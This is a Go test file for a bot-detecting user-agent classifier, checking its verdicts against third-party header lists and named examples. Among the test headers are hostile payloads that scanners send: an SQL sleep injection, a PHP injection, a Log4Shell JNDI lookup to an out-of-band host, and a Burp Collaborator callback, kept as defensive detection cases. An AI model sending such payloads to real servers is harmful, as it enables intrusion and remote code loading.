package classify

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/mileusna/useragent"

	"github.com/robotsguard/robotsguard/identity"
)

// labelled is one header of a third-party list.
type labelled struct {
	UA   string `json:"ua"`
	Kind string `json:"kind"`
	Cat  string `json:"cat"`
	Name string `json:"name"`
}

// readList reads a JSON-lines list of testdata/useragents/thirdparty.
func readList(t testing.TB, name string) []labelled {
	t.Helper()
	return readListAt(t, "../testdata/useragents/thirdparty/"+name)
}

// readListAt reads a JSON-lines list of labelled headers at path.
func readListAt(t testing.TB, path string) []labelled {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []labelled
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var l labelled
		if err := json.Unmarshal(sc.Bytes(), &l); err != nil {
			t.Fatal(err)
		}
		out = append(out, l)
	}
	return out
}

// listResult is how the classifier and mileusna/useragent judge one list.
type listResult struct {
	name                  string
	n, bots, mBots, tools int // tools: HTTP tools judged no bot, as http_tools off says
	agents                int // judged agents that fetch for a person (readers, previews): neither bots nor missed
	apps                  int // judged people's apps (apps.txt)
	shapeOnly             int // bots that only the shape rule catches
	examples              []string
	appExamples           []string // headers judged people's apps, not person agents
}

// judgeList classifies every header of a list with c (and, for what the
// shape rule alone catches, with noShape, the same classifier without it).
func judgeList(t testing.TB, c, noShape *Classifier, name string) listResult {
	r := listResult{name: name}
	for _, l := range readList(t, name) {
		r.n++
		h := []byte(strings.ToLower(l.UA))
		info := c.Lookup(l.UA)
		switch {
		case info.Bot:
			r.bots++
			if len(r.examples) < 400 {
				r.examples = append(r.examples, l.UA)
			}
			if noShape != nil && !noShape.Lookup(l.UA).Bot {
				r.shapeOnly++
			}
		case info.UnverifiablePersonAgent():
			r.agents++
		case c.tokens.match(h)&kindTool != 0:
			r.tools++
		default:
			if a, _ := c.apps.first(h); a != nil {
				r.apps++
				r.appExamples = append(r.appExamples, l.UA)
			}
		}
		if useragent.Parse(l.UA).Bot {
			r.mBots++
		}
	}
	return r
}

func pct(a, n int) string { return fmt.Sprintf("%.1f %%", 100*float64(a)/float64(max(n, 1))) }

// listedBots are the headers of the browser lists that are bots after all,
// each with the reason; a test that holds "no browser refused" names them.
var listedBots = map[string]string{
	"amazon-kendra-customer-id-<AccountID>":  "isbot: an insignificant bot",
	"Mozilla/5.0 (compatible; Yahoo! Slurp)": "isbot: an insignificant bot (Yahoo's crawler)",
	"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amzn-User/0.1) Chrome/119.0.6045.214 Safari/537.36":                                                                                                   "Amazon's user-triggered fetcher, a token of the built-in operator registry: a claim, judged as a bot unless verified (isbot files it as a browser)",
	"fuboTV/4.75.0 (Linux;Android 9; AFTDCT31 Build/PS7664.3772N) FuboPlayer/v1.34.0":                                                                                                                                     "mileusna/useragent reads it as a bot (a TV app)",
	"Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; i-NavFourF; TuneUp HTML Client Embedded Web Browser from: http://bsalsa.com/; .NET CLR 1.1.4322; .NET CLR 2.0.50727; .NET CLR 3.0.4506.2152; .NET CLR 3.5.30729)": "mileusna/useragent reads it as a bot (an embedded control of 2008); it also gives a URL",
	"pinterest/0.": "isbot: an insignificant bot",
	// isbot's "glitches and misidentified browsers": headers that some bot
	// lists hold and isbot does not call bots. These four are scanners'
	// and a crawler's, whatever a list of browsers files them under.
	"LWPrCa2l') OR 941=(SELECT 941 FROM PG_SLEEP(15))--":      "isbot's misidentified: an SQL injection payload",
	"Mozilliqa\"<?=print(9347655345-4954366);?>\"":            "isbot's misidentified: a PHP injection payload",
	"Mozilla/5.0 (Laravel Reaver .env Presence)":              "isbot's misidentified: a scanner looking for Laravel .env files (no platform named)",
	"Mozilla/5.0 (compatible; Lucidworks-Anda/2.0/0.10; +; )": "isbot's misidentified: Lucidworks Fusion's web crawler (no platform named)",
}

// listedPeople are the headers of the bot lists that the list of people's
// apps (apps.txt) makes a person's, each with the reason; a test that holds
// the bot floors names them (readers and link previews, which are person
// agents, are counted apart without a name).
var listedPeople = map[string]string{
	"emclient/10.3.2619.0": "eM Client, a desktop mail client (device-detector files it as a PIM)",
}

// The share of bots that must be caught (issue 33): 97 % of isbot's
// crawlers, 98 % of device-detector's bots. HTTP tools count as the
// default says: with http_tools off, a header that is a tool's and no
// more is neither caught nor missed; so are the agents that fetch for a
// person, which the bot lists file as bots (feed readers, WhatsApp's link
// previews: issue 45), and the people's apps of listedPeople.
const (
	floorIsbotCrawlers = 0.97
	floorMatomoBots    = 0.98
)

// The share of device-detector's client fixtures (matomo-clients.jsonl)
// that must be judged a person's, not a bot's (issue 45): feed readers,
// media players, mail and PIM clients, and podcast apps. Libraries are
// measured, not held: they are HTTP tools or scripts.
var floorClients = map[string]float64{
	"client:feed reader": 0.55,
	"client:mediaplayer": 0.75,
	"client:pim":         0.88,
	"client:mobile app":  0.72, // podcasting.yml's podcast apps
}

// TestThirdPartyLists measures the classifier (the default configuration,
// with the built-in operator registry) on labelled lists that nobody on
// the project wrote, beside mileusna/useragent's Bot field: no browser or
// app header is judged a bot but those listedBots names, no bot header is
// judged a person's app but those listedPeople names, and no fewer bots
// are caught than the floors. It also measures the shape rule on its own:
// the bots that only it catches. -v lists the bots missed.
func TestThirdPartyLists(t *testing.T) {
	v, err := identity.New(identity.Config{Operators: identity.Builtin(), OnDemand: true})
	if err != nil {
		t.Fatal(err)
	}
	defer v.Close()
	cfg, _ := Config{}.WithDefaults()
	c := New(cfg, v, nil)
	noShape := New(cfg, v, nil)
	noShape.noShape = true
	tools, _ := Config{HTTPTools: true}.WithDefaults()
	ct := New(tools, v, nil)
	var table strings.Builder
	table.WriteString("| list | mileusna Bot | robots_guard (bots' lists: HTTP tools, person agents and listed apps not counted) | person agents | the shape rule alone | robots_guard, http_tools on |\n|---|--:|--:|--:|--:|--:|\n")
	share := map[string]float64{}
	for _, name := range []string{"isbot-browsers.jsonl", "matomo-devices-browser.jsonl", "matomo-devices-mobile_app.jsonl", "isbot-crawlers.jsonl", "matomo-bots.jsonl"} {
		r, rt := judgeList(t, c, noShape, name), judgeList(t, ct, nil, name)
		people := strings.Contains(name, "browser") || strings.Contains(name, "mobile_app")
		counted := r.n - r.tools - r.agents - r.apps // bots' lists: neither caught nor missed
		if people {
			counted = r.n
		} else {
			for _, ua := range r.appExamples {
				if _, ok := listedPeople[ua]; !ok {
					t.Errorf("%s: a bot judged a person's app (apps.txt), named in no listedPeople: %s", name, ua)
				}
			}
		}
		share[name] = float64(r.bots) / float64(counted)
		fmt.Fprintf(&table, "| %s (%d): judged a bot | %s | %s (%d of %d) | %d | %d | %s (%d) |\n", name, r.n, pct(r.mBots, r.n),
			pct(r.bots, counted), r.bots, counted, r.agents, r.shapeOnly, pct(rt.bots, rt.n), rt.bots)
		if people {
			for _, ua := range r.examples {
				if _, ok := listedBots[ua]; !ok {
					t.Errorf("%s: a browser or app judged a bot: %s", name, ua)
				}
			}
		}
	}
	t.Log("\n" + table.String())
	if share["isbot-crawlers.jsonl"] < floorIsbotCrawlers || share["matomo-bots.jsonl"] < floorMatomoBots {
		t.Errorf("too few bots caught: isbot %.3f (at least %.3f), device-detector %.3f (at least %.3f)",
			share["isbot-crawlers.jsonl"], floorIsbotCrawlers, share["matomo-bots.jsonl"], floorMatomoBots)
	}
	if testing.Verbose() {
		for _, name := range []string{"isbot-crawlers.jsonl", "matomo-bots.jsonl"} {
			for _, l := range readList(t, name) {
				if !c.Lookup(l.UA).Bot {
					t.Logf("missed from %s: %s", name, l.UA)
				}
			}
		}
	}
}

// TestClientLists measures the classifier (default settings) on
// device-detector's client fixtures: the share of feed readers, media
// players, PIM clients and podcast apps judged a person's (a person agent
// or a person's app) holds floorClients; libraries are reported. -v lists
// the people's clients judged bots.
func TestClientLists(t *testing.T) {
	c := mustClassifier(t, Config{})
	n, people, agents := map[string]int{}, map[string]int{}, map[string]int{}
	for _, l := range readList(t, "matomo-clients.jsonl") {
		n[l.Kind]++
		info := c.Lookup(l.UA)
		switch {
		case info.UnverifiablePersonAgent():
			agents[l.Kind]++
			people[l.Kind]++
		case !info.Bot:
			people[l.Kind]++
		case testing.Verbose() && l.Kind != "client:library":
			t.Logf("%s judged a bot: %s", l.Kind, l.UA)
		}
	}
	var table strings.Builder
	table.WriteString("| device-detector clients | judged a person's | of which person agents | floor |\n|---|--:|--:|--:|\n")
	for _, k := range []string{"client:feed reader", "client:mediaplayer", "client:pim", "client:mobile app", "client:library"} {
		got := float64(people[k]) / float64(max(n[k], 1))
		floor := "—"
		if f, ok := floorClients[k]; ok {
			floor = fmt.Sprintf("%.0f %%", 100*f)
			if got < f {
				t.Errorf("%s: %.3f judged a person's, below the floor %.3f", k, got, f)
			}
		}
		fmt.Fprintf(&table, "| %s (%d) | %s (%d) | %d | %s |\n", k, n[k], pct(people[k], n[k]), people[k], agents[k], floor)
	}
	t.Log("\n" + table.String())
}

// TestPeopleAndCrawlers: the headers issue 33 names. Phones on an Android
// build id that a crawler list carried, the Slack desktop app, VS Code and
// Facebook's in-app browser are people's; a crawler's own name or a
// crawling framework's default header is a crawler's, whatever HTTP
// library it runs on.
func TestPeopleAndCrawlers(t *testing.T) {
	c := mustClassifier(t, Config{})
	for _, ua := range []string{
		"Mozilla/5.0 (Linux; Android 15; CPH2557 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/142.0.7444.142 Mobile Safari/537.36 Instagram 406.0.0.58.159 Android (35/15; 480dpi; 1080x2400; OPPO; CPH2557; OP573DL1; mt6833; en_MY; 822918295; IABMV/1) NV/1",
		"Mozilla/5.0 (Windows NT 10.0.18362; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.4.2 Chrome/78.0.3904.130 Electron/7.2.1 Safari/537.36 WindowsStore/10.0.18362 Sonic Slack_SSB/4.4.2",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Code/1.115.0 Chrome/142.0.7444.265 Electron/39.8.5 Safari/537.36",
		"Mozilla/5.0 (Linux; Android 16; Pixel 10 Pro XL Build/CP1A.260305.018; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36 MetaIAB Facebook",
		"Mozilla/5.0 (Linux; Android 8.1.0; XBot Junior) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.101 Mobile Safari/537.36",
		"Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
		// apps whose names hold a stem that crawlers use too, and headers
		// that name a platform in few words
		"Mozilla/5.0 (Linux; Android 13; 2201116SI Build/TKQ1.221114.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 CamScanner/4.5.0.2305051722",
		"Mozilla/5.0 (Linux; Android 14; I2208 Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/114.0.5735.196 Mobile Safari/537.36 csh-cashify-flutter csh-store-checkout d2c-back-supported",
		"Mozilla/5.0 (Linux; Android 11; V2164PA Build/RP1A.200720.012; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/83.0.4103.106 Mobile Safari/537.36 AgentWeb/4.1.3  XsBrowser/11.6.4.950",
		"Mozilla/5.0 (Linux; Android 12; moto g(50) 5G Build/S1RSS32.38-20-9-13; wv) AppleWebKit/537.36 (KHTML,like Gecko) Version/4.0 Chrome/124.0.6367.180 Mobile Safari/537.36",
		"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/111.0.0.0 Mobile Safari/537.36 (Ecosia android@111.0.5563.116)",
		"MozacFetch/49.0.20200702190156",
		"Microsoft Office/16.0 (Microsoft Outlook Mail 16.0.8008; Pro)",
		"GOGGalaxyClient/2.0.20.39 (GOG Galaxy) 83b6745cff679691b69876bc7ee33e05e5d90bda (win10 x64)",
		"HUAWEI-M636/001.00 WAP/OBIGO/Q05A",
		"QC-2235/1.0.52 UP.Browser/4.1.22b1",
		"Xiino/1.0.9E [en] (v. 4.1; 153x130; g4)",
		"Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US) AppleWebKit/527+ (KHTML, like Gecko, Safari/419.3) Arora/0.6",
	} {
		if c.IsBot(ua) {
			t.Errorf("a person judged a bot: %s", ua)
		}
	}
	for _, ua := range []string{
		"python-requests/2.32.3; RecipeRadar/0.1; +https://www.reciperadar.com",
		"Ex-Crawler/0.1.5a (Windows; U; Windows NT 5.1; en-US; rv:1.9.1.2) Java/1.6.0_20",
		"colly - https://github.com/gocolly/colly/v2",
		"Scrapy/1.0.3.post6+g2d688cd (+http://scrapy.org)",
		"WGETbot/1.0 (+http://wget.alanreed.org)",
		"amibot - http://www.amidalla.de - tech@amidalla.com libwww-perl/5.831",
		"COMODO SSL Checker",
		// the generic markers, one of each kind
		"Mozilla/5.0 (compatible; um-CC/1.0; mailto: techinfo@ubermetrics-technologies.com)",
		"Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/55.0.2883.87 Safari/537.36 root@8f6gtjctw9glvnasfrq438tprig56wty20ghwkf9.burpcollaborator.net",
		"${jndi:ldap://${hostName}.useragent.example.oast.live}",
		"Mozilla/5.0 (en-US) AppleWebKit/537.36 (KHTML, like Gecko; Google-Assess) Chrome/34.0.1847.116 Safari/537.36",
		"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2272.96 Mobile Safari/537.36 (compatible; Google-AMPHTML)",
		"Anonymous, Mozilla/5.0 (X11; Linux Mint x86_64) AppleWebKit/537.37 (KHTML, like Gecko) Chrome/50.0.2272.105 Safari/537.37 Vivaldi/1.5.201.2",
		"Mozilla/5.0 (Windows; U; Windows NT 6.0; en-US; rv:1.9.2.28) Gecko/20120306 Firefox/99.0 YottaaMonitor",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 CybaaAgent",
		"Mozilla/5.0 (Linux; Android 11; Moto G Power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Mobile Safari/537.36 CloudflareObservatory/1.0",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 13_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/7.0.12(0x17000c2f) NetType/4G Language/zh_CN wechatdevtools qcloudcdn-xinan",
		// no person's shape
		"ApacheBench/2.3",
		"Mozilla/5.0 (compatible; Trance/1.0)",
		"Hello, world",
		"Zeus",
		"Browsershots",
		// services' fetchers the list adds
		"DuckDuckGo/5 (com.duckduckgo.mobile.android; android api 33)",
		"swcd (unknown version) CFNetwork/1128.0.1 Darwin/19.6.0",
	} {
		if !c.IsBot(ua) {
			t.Errorf("a crawler not judged a bot: %s", ua)
		}
	}
}

// TestPersonClasses: the registry of agents that fetch for a person names
// their class; other bots and browsers have none; the setting is checked.
func TestPersonClasses(t *testing.T) {
	c := mustClassifier(t, Config{})
	for ua, want := range map[string]string{
		"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)":                                                      Unfurler,
		"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)":                                       Unfurler,
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot":       Fetcher,
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)":                                        "",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Safari/537.36": "",
	} {
		if got := c.Lookup(ua).Class; got != want {
			t.Errorf("%s: class %q, want %q", ua, got, want)
		}
	}
	if _, err := (Config{PersonAgents: "never"}).WithDefaults(); err == nil || !strings.Contains(err.Error(), "person_agents") {
		t.Errorf("a bad person_agents: %v", err)
	}
}

// TestApps: an app the operator names is a person's, whatever the
// markers and the shape rule say; a known crawler's token still wins.
func TestApps(t *testing.T) {
	plain := mustClassifier(t, Config{})
	c := mustClassifier(t, Config{Apps: []string{" MyShopApp "}})
	for ua, want := range map[string][2]bool{ // {default, with apps}
		"MyShopApp/3.1":                              {true, false},
		"MyShopApp/3.1 (+https://shop.example)":      {true, false},
		"MyShopApp/3.1 AhrefsBot/7.0":                {true, true},
		"NotMyShopApp/3.1":                           {true, true},
		"MyShopApp/3.1 (iPhone; iOS 17.4)":           {false, false},
		"Mozilla/5.0 (compatible; Trance/1.0)":       {true, true},
		"myshopapp/3.1 (Linux; Android 14; Pixel 8)": {false, false},
	} {
		if got := plain.IsBot(ua); got != want[0] {
			t.Errorf("default: IsBot(%q) = %v, want %v", ua, got, want[0])
		}
		if got := c.IsBot(ua); got != want[1] {
			t.Errorf("apps MyShopApp: IsBot(%q) = %v, want %v", ua, got, want[1])
		}
	}
	if _, err := (Config{Apps: []string{"x"}}).WithDefaults(); err == nil || !strings.Contains(err.Error(), "apps[0]") {
		t.Errorf("a one-letter app token: %v", err)
	}
}
